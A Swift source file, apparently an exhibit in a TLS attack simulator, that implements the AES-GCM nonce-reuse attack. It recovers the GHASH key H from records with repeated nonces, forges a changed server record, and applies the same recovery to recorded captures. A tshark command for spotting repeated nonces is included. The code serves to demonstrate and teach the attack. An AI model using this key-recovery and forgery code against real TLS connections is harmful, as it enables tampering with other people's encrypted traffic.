import Crypto
import PKI
import Render
import Simulator
import TCPSim
import TLSSim
import Trace

/// A server that draws the nonces of AES-GCM at random repeats one, and so reveals the key of its tags (Joux 2006; Böck and others 2016).
enum GCMNonce: CaptureExhibit {
    static let card = Card(
        "gcm-nonce", in: .record, from: .inPath, to: .forge, unit: .records, year: 2006,
        cites: [.rfc(5288, "3"), .rfc(5288, "6.1")], cves: ["CVE-2016-0270"], readsCaptures: true,
        words: GCMNonceCard.self)

    private static let client = Socket(.client, 50_000)
    private static let server = Socket(.server, 443)
    /// The number of records after which she gives up. Without the rule the probability of so many records without a repeat is below e^-30.
    private static let patience = 500

    static func perform(_ show: Performance) throws -> Outcome {
        let stage = show.stage(client: client)
        let victims = try Victims(show, .rsaAES128GCM)
        let places = show.pair(on: stage)
        stage.listen(places.server, port: server.port) { _ in
            victims.server(configure: {
                $0.sessions = SessionCache()
                if !show.isDefended { $0.recordRules.drawnNonces = show.seeds.fork("nonces") }
                // Half of the rule: the server counts the nonces, but the counter begins anew after 64 records.
                if show.isHalf { $0.recordRules.nonceCycle = 64 }
            })
        }
        let socket = stage.connect(
            places.client, from: client.port, to: server, victims.client(says: [Array("prices".utf8)]))
        let attacker = show.attacker(on: stage)
        var reader = NonceReader()
        reader.take(attacker.wait(.seconds(1)))

        // The server sends a price at each call.
        let speaker = stage.applications(of: places.server).first?.socket ?? 0
        var prices = show.seeds.fork("prices")
        func speak() {
            let digits = prices.octets(3).map { String($0 % 10) }
            stage.prompt(
                places.server, socket: speaker,
                with: .answer(Array("price 1\(digits[0]).\(digits[1])\(digits[2])".utf8)))
        }
        var candidates: [UInt128]?
        // The number of candidates after each repeat.
        var counts: [Int] = []
        var outcome = Outcome()
        var random = attacker.random
        while reader.records.count < patience, candidates?.count != 1 {
            speak()
            reader.take(attacker.wait(.milliseconds(30)))
            guard let pair = reader.repeats.last, reader.repeats.count > counts.count else { continue }
            let difference = reader.difference(pair)
            if let known = candidates {
                candidates = known.filter { difference.value(at: $0) == 0 }
            } else {
                outcome.tries = reader.records.count
                candidates = difference.roots(using: &random)
            }
            counts.append(candidates?.count ?? 0)
        }
        if outcome.tries == 0 { outcome.tries = reader.records.count }
        outcome.theory = .repetition(1 << 12, "repeat(M)")
        outcome.figures = [
            Figure("candidates", unit: "roots", measured: Double(counts.first ?? 0)),
            Figure("records", unit: "records", measured: Double(reader.records.count)),
        ]
        outcome.evidence = [
            ("client", .socket(client)), ("server", .socket(server)),
            (
                "repeated",
                .array(
                    reader.repeats.map { pair in
                        .array([
                            .number(reader.records[pair.first].frame), .number(reader.records[pair.second].frame),
                        ])
                    })
            ),
        ]
        outcome.say(GCMNonceNote.waits)
        guard let pair = reader.repeats.first, let h = candidates?.first, candidates?.count == 1 else {
            outcome.say(GCMNonceNote.nothing(reader.records.count), cite: .rfc(5288, "3"))
            return outcome.withTruth(of: stage, host: places.client, socket: socket, reader)
        }
        let (one, two) = (reader.records[pair.first], reader.records[pair.second])
        outcome.say(
            GCMNonceNote.repeated(after: outcome.tries), frames: [one.frame, two.frame],
            [
                .init("nonce_explicit", one.nonce),
                .init("tag XOR tag", one.tag ^ two.tag), .init("ciphertext XOR ciphertext", one.text ^ two.text),
            ])
        outcome.say(GCMNonceNote.roots(counts), [.init("H", h.octets)])
        outcome.loot = [("h", h.octets)]
        show.find(outcome)

        // She changes a digit of the next price, and the tag accordingly.
        var forged: (frame: Int, old: [UInt8], new: [UInt8])?
        attacker.guardPath { sight in
            guard forged == nil, sight.source == server,
                let record = NonceReader.Record(
                    sight.segment.payload, number: UInt64(reader.records.count), frame: sight.frame)
            else { return .passes }
            var changed = record
            changed.text[6] ^= UInt8(ascii: "1") ^ UInt8(ascii: "9")
            let tag = record.tag ^ (record.polynomial.value(at: h) ^ changed.polynomial.value(at: h)).octets
            let payload = sight.segment.payload.prefix(13) + changed.text + tag
            forged = (sight.frame, sight.segment.payload, Array(payload))
            return .replaced([sight.carrying(Array(payload))])
        }
        speak()
        _ = attacker.wait(.milliseconds(200))
        if let forged {
            outcome.say(
                GCMNonceNote.forges, frames: [forged.frame],
                [.init("record of the server", forged.old), .init("record in its place", forged.new)])
            outcome.evidence.append(("frame", .number(forged.frame)))
        }
        let heard = (stage.application(places.client, socket) as? TLSProgram)?.heard.suffix(11) ?? []
        outcome.reached = heard.starts(with: Array("price 9".utf8))
        outcome.say(GCMNonceNote.read(String(decoding: heard, as: UTF8.self)))
        outcome.reproduce = [reproduce("ip.src==\(server.address)")]
        return outcome.withTruth(of: stage, host: places.client, socket: socket, reader)
    }

    /// A command that prints the explicit nonces that come twice in the records that pass `filter`.
    ///
    /// - Parameter splitting: a further command of the pipe, for captures with several records in a packet.
    private static func reproduce(_ filter: String, splitting: String = "") -> String {
        "tshark -r FILE -Y 'tls.record.content_type==23 && \(filter)' -T fields -e tls.app_data | \(splitting)cut "
            + "-c1-16 | sort | uniq -d"
    }

    /// The longest ciphertext whose polynomial she solves, in octets: the work grows with the square of the length.
    private static let longest = 1_024

    /// Looks in each connection of a recording for nonces that come twice, and computes H.
    static func attack(_ recording: Recording, variant: String, outcome: inout Outcome) {
        outcome.say(GCMNonceNote.reads)
        for offer in recording.offers {
            guard case .aesGCM? = offer.suite.implemented?.cipher, offer.version == .tls12 else { continue }
            var reader = NonceReader()
            reader.take(offer.connection.server.bytes)
            let pairs = reader.repeats.filter { pair in
                [pair.first, pair.second].allSatisfy { reader.records[$0].text.count <= longest }
            }
            if outcome.reproduce.isEmpty || !pairs.isEmpty {
                let (client, server) = (offer.connection.client.sender, offer.connection.server.sender.address)
                let filter = "ip\(server.contains(":") ? "v6" : "").src==\(server) && tcp.dstport==\(client.port)"
                outcome.reproduce = [reproduce(filter, splitting: "tr , '\\n' | ")]
            }
            guard let pair = pairs.first else {
                outcome.tries += reader.records.count
                continue
            }
            outcome.tries += pair.second + 1
            var random = SeededRandomSource(seed: 1)
            var candidates = reader.difference(pair).roots(using: &random)
            var counts = [candidates.count]
            for other in pairs.dropFirst() where candidates.count > 1 {
                let difference = reader.difference(other)
                candidates = candidates.filter { difference.value(at: $0) == 0 }
                counts.append(candidates.count)
            }
            let (one, two) = (reader.records[pair.first], reader.records[pair.second])
            outcome.say(
                GCMNonceNote.repeated(after: pair.second + 1),
                frames: recording.frames(with: one.wire) + recording.frames(with: two.wire),
                [
                    .init("nonce_explicit", one.nonce), .init("tag XOR tag", one.tag ^ two.tag),
                    .init("ciphertext XOR ciphertext", one.text ^ two.text),
                ])
            outcome.say(GCMNonceNote.recordedRoots(counts), candidates.map { .init("H", $0.octets) })
            guard let h = candidates.first, candidates.count == 1 else { continue }
            outcome.reached = true
            outcome.loot = [("h", h.octets)]
            outcome.say(GCMNonceNote.couldForge)
            return
        }
        // The only step so far is the beginning: no connection had a repeat.
        if outcome.steps.count == 1 { outcome.say(GCMNonceNote.noRepeat(outcome.tries), cite: .rfc(5288, "3")) }
    }
}

extension Outcome {
    /// The outcome, with H as the victims could compute it: AES of zero under the key of the server's records.
    ///
    /// - Parameters:
    ///   - host: the place of the client's host.
    ///   - socket: the client's socket number.
    fileprivate func withTruth(of stage: Stage, host: Int, socket: Int, _ reader: NonceReader) -> Outcome {
        guard let session = (stage.application(host, socket) as? TLSProgram)?.session else { return self }
        let keys = KeySchedule(
            resuming: session.masterSecret, clientRandom: reader.randoms.client, serverRandom: reader.randoms.server,
            suite: session.suite
        ).serverKeys
        let zero = [UInt8](repeating: 0, count: 16)
        var outcome = self
        outcome.truth = [("h", (try? AESCBC.encrypt(zero, key: keys.key, iv: zero)) ?? [])]
        return outcome
    }
}

/// Reads the server's protected records as the attacker sees them, and finds nonces that come twice.
struct NonceReader {
    /// A protected record.
    struct Record {
        let frame: Int
        /// The explicit nonce, 8 octets.
        let nonce: [UInt8]
        /// The ciphertext.
        var text: [UInt8]
        /// The tag, 16 octets.
        let tag: [UInt8]
        /// The additional data: sequence number, type, version and length (RFC 5246 section 6.2.3.3).
        let data: [UInt8]

        /// Reads a record; nil if `octets` are not exactly one record with a nonce and a tag.
        ///
        /// - Parameter number: its sequence number.
        init?(_ octets: [UInt8], number: UInt64, frame: Int) {
            guard octets.count >= 29, octets.count == 5 + (Int(octets[3]) << 8 | Int(octets[4])) else { return nil }
            self.frame = frame
            nonce = Array(octets[5..<13])
            text = Array(octets[13..<(octets.count - 16)])
            tag = Array(octets.suffix(16))
            data = number.octets + octets.prefix(3) + UInt16(truncatingIfNeeded: text.count).octets
        }

        /// The octets of the record on the wire.
        var wire: [UInt8] {
            let length = nonce.count + text.count + tag.count
            return Array(data[8..<11]) + UInt16(truncatingIfNeeded: length).octets + nonce + text + tag
        }

        /// The polynomial whose value at H is GHASH of the record. Its coefficients, that of 1 first, are zero and then lengths, ciphertext and
        /// additional data in reverse order.
        var polynomial: GaloisPolynomial {
            func blocks(_ octets: [UInt8]) -> [UInt128] {
                stride(from: 0, to: octets.count, by: 16).map { start in
                    let piece = octets[start..<min(start + 16, octets.count)]
                    return piece.reduce(0) { $0 << 8 | UInt128($1) } << UInt128(8 * (16 - piece.count))
                }
            }
            let lengths = UInt128(8 * data.count) << 64 | UInt128(8 * text.count)
            return GaloisPolynomial([0] + (blocks(data) + blocks(text) + [lengths]).reversed())
        }
    }

    /// The server's protected records so far, in the order of their numbers.
    private(set) var records: [Record] = []
    /// The places in ``records`` of each record whose nonce has come before, and of the first record with this nonce.
    private(set) var repeats: [(first: Int, second: Int)] = []
    /// The randoms of both hellos.
    private(set) var randoms: (client: [UInt8], server: [UInt8]) = ([], [])
    private var isProtected = false

    /// Reads the segments of a connection.
    mutating func take(_ sights: [Sight]) {
        for sight in sights { take(sight.segment.payload, isServers: sight.source.port == 443, frame: sight.frame) }
    }

    /// Reads whole records of one direction.
    mutating func take(_ octets: [UInt8], isServers: Bool = true, frame: Int = 0) {
        var rest = octets[...]
        while rest.count > 5, let type = rest.first {
            let length = 5 + Int(rest[rest.startIndex + 3]) << 8 + Int(rest[rest.startIndex + 4])
            let record = Array(rest.prefix(length))
            rest = rest.dropFirst(length)
            read(record, of: type, isServers: isServers, frame: frame)
        }
    }

    private mutating func read(_ record: [UInt8], of type: UInt8, isServers: Bool, frame: Int) {
        // A hello's random comes after five octets of the record's header, four of the message's header and two of the version.
        if type == ContentType.handshake.rawValue, record.count >= 43, record[5] == 1 || record[5] == 2 {
            let random = Array(record[11..<43])
            if record[5] == 1 { randoms.client = random } else { randoms.server = random }
        }
        guard isServers else { return }
        if type == ContentType.changeCipherSpec.rawValue { isProtected = true }
        guard isProtected, type != ContentType.changeCipherSpec.rawValue,
            let sealed = Record(record, number: UInt64(records.count), frame: frame)
        else { return }
        if let earlier = records.firstIndex(where: { $0.nonce == sealed.nonce }) {
            repeats.append((earlier, records.count))
        }
        records.append(sealed)
    }

    /// A polynomial that is zero at H. A tag is GHASH under a mask, which depends on key and nonce. The two tags of a pair have the same mask,
    /// so their difference is that of the two GHASH values.
    func difference(_ pair: (first: Int, second: Int)) -> GaloisPolynomial {
        let (one, two) = (records[pair.first], records[pair.second])
        let tags = (one.tag ^ two.tag).reduce(0) { $0 << 8 | UInt128($1) }
        return one.polynomial + two.polynomial + GaloisPolynomial([tags])
    }
}
